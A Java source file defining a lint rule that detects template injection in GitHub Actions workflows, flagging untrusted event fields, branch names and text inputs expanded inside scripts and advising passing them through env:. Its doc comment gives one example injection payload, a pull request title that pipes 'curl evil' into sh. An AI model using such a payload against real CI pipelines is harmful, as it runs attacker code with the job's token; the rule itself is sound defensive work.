package dev.lifeos.maven.workflows.rules;

import dev.lifeos.maven.rules.Finding;
import dev.lifeos.maven.workflows.Expressions;
import dev.lifeos.maven.workflows.Job;
import dev.lifeos.maven.workflows.Step;
import dev.lifeos.maven.workflows.Workflow;
import dev.lifeos.maven.workflows.WorkflowPolicy;
import dev.lifeos.maven.workflows.WorkflowRule;
import dev.lifeos.maven.workflows.YamlNode;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * No value that someone outside the team can write is expanded into a script. GitHub replaces
 * {@code ${{ }}} in {@code run:} (and in actions/github-script's {@code script:}) before the shell
 * reads it, so a pull request titled {@code "; curl evil | sh #} runs that command with the job's
 * token. Refused there: {@code github.event.*} (titles, bodies, comments, commit messages, branch
 * names of the event), {@code github.head_ref}, the whole {@code github} context, inputs that can
 * hold text (a reusable workflow's caller or a dispatcher chooses them; {@code boolean}, {@code
 * number}, {@code choice} and {@code environment} inputs cannot), and {@code env.*}, which pastes a
 * value passed through {@code env:} back into the script. The fix is always the same: pass the
 * value through the step's {@code env:} and read it as a shell variable, which the shell never
 * executes.
 */
public final class TemplateInjectionRule implements WorkflowRule {
  /** A string literal, unless it is an index ({@code github['event']} names the context). */
  private static final Pattern STRING_LITERAL = Pattern.compile("(?<!\\[\\s{0,8})'(?:[^']|'')*'");

  private static final Pattern GITHUB_UNTRUSTED =
      Pattern.compile(
          "(?<![\\w.-])github\\s*(?:\\.\\s*(?:event|head_ref)\\b|\\[\\s*'(?:event|head_ref)'\\s*]"
              + "|(?!\\s*[.\\[\\w-]))(?:\\s*\\.\\s*[\\w*-]+|\\s*\\[\\s*'[^']*'\\s*])*",
          Pattern.CASE_INSENSITIVE);
  private static final Pattern CONTEXT_VALUE =
      Pattern.compile(
          "(?<![\\w.-])(inputs|env)\\s*"
              + "(?:\\.\\s*([A-Za-z_][\\w-]*)|\\[\\s*'([^']+)'\\s*]|(?!\\s*[.\\[\\w-]))",
          Pattern.CASE_INSENSITIVE);
  private static final Set<String> SAFE_INPUT_TYPES =
      Set.of("boolean", "number", "choice", "environment");

  @Override
  public String id() {
    return "template-injection";
  }

  @Override
  public String title() {
    return "No template injection";
  }

  @Override
  public String why() {
    return "GitHub expands ${{ }} in a script before the shell reads it, so a value someone outside the"
        + " team can write (a pull request's title, a branch name) runs as a command with the job's"
        + " token.";
  }

  @Override
  public String fix() {
    return "Pass the value through the step's env: and read it as a shell variable.";
  }

  @Override
  public List<Finding> check(Workflow workflow, WorkflowPolicy policy) {
    List<Finding> found = new ArrayList<>();
    Set<String> safeInputs = safeInputs(workflow);
    for (Job job : workflow.jobs()) {
      for (Step step : job.steps()) {
        YamlNode script =
            step.action().filter("actions/github-script"::equalsIgnoreCase).isPresent()
                ? step.node().get("with").get("script")
                : step.node().get("run");
        String text = script.text().orElse("");
        int line = script.textLine();
        int counted = 0;
        for (Expressions.Expression expression : Expressions.in(text)) {
          // counted on from the previous expression: one pass, however many there are
          line += newlines(text, counted, expression.offset());
          counted = expression.offset();
          int at = line;
          untrusted(expression.body(), safeInputs)
              .ifPresent(
                  reference ->
                      found.add(
                          workflow.finding(
                              at,
                              this,
                              job.label()
                                  + " "
                                  + step.label()
                                  + " expands "
                                  + expression.text()
                                  + " inside its script"
                                  + why(reference))));
        }
      }
    }
    return found;
  }

  /** The first untrusted reference of an expression's body, as written; empty when none. */
  private static Optional<String> untrusted(String body, Set<String> safeInputs) {
    // text inside a string literal names nothing: ${{ 'github.event' }} is a constant
    String code = STRING_LITERAL.matcher(body).replaceAll("''");
    Matcher github = GITHUB_UNTRUSTED.matcher(code);
    if (github.find()) {
      return Optional.of(github.group().trim());
    }
    Matcher context = CONTEXT_VALUE.matcher(code);
    while (context.find()) {
      String kind = context.group(1).toLowerCase(Locale.ROOT);
      String name = context.group(2) != null ? context.group(2) : context.group(3);
      if (kind.equals("env") || name == null || !safeInputs.contains(name)) {
        return Optional.of(name == null ? kind : kind + "." + name);
      }
    }
    return Optional.empty();
  }

  private static String why(String reference) {
    if (reference.toLowerCase(Locale.ROOT).startsWith("env.")) {
      String variable = reference.substring("env.".length());
      return ", which pastes the value into the script again, where a quote or $( ) in it runs"
          + " as code (template injection): read it as a shell variable, \"$"
          + variable
          + "\".";
    }
    return ": GitHub pastes the value of "
        + reference
        + " into the script before the shell reads it, so whoever writes it (a pull request's"
        + " title or branch, a comment, a caller's input) runs commands with this job's token"
        + " (template injection). Pass it through the step's env: (env: {VALUE: "
        + "${{ "
        + reference
        + " }}}) and use \"$VALUE\" in the script.";
  }

  /** Inputs declared with a type that cannot hold text: true, 42, one of the choices. */
  private static Set<String> safeInputs(Workflow workflow) {
    Set<String> safe = new HashSet<>();
    Set<String> text = new HashSet<>();
    for (String event : List.of("workflow_call", "workflow_dispatch")) {
      workflow
          .triggers()
          .getOrDefault(event, YamlNode.MISSING)
          .get("inputs")
          .entries()
          .forEach(
              (name, input) -> {
                String type = input.get("type").text().orElse("string").trim();
                (SAFE_INPUT_TYPES.contains(type) ? safe : text).add(name);
              });
    }
    safe.removeAll(text);
    return safe;
  }

  private static int newlines(String text, int from, int to) {
    int count = 0;
    for (int i = from; i < to; i++) {
      if (text.charAt(i) == '\n') {
        count++;
      }
    }
    return count;
  }
}
